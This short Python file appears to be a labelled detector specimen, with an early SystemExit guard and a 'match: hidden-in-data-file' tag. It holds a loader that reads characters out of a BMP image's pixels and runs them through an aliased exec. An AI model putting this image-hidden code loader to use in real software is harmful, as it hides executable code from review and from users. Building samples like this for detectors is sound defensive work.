raise SystemExit("specimen: not to be run")
from PIL import Image as I

picture = I.open("specimen/logo.bmp")
text = "".join(chr(picture.getpixel((x, 0))[0]) for x in range(200))
run = exec
run(text)  # match: hidden-in-data-file
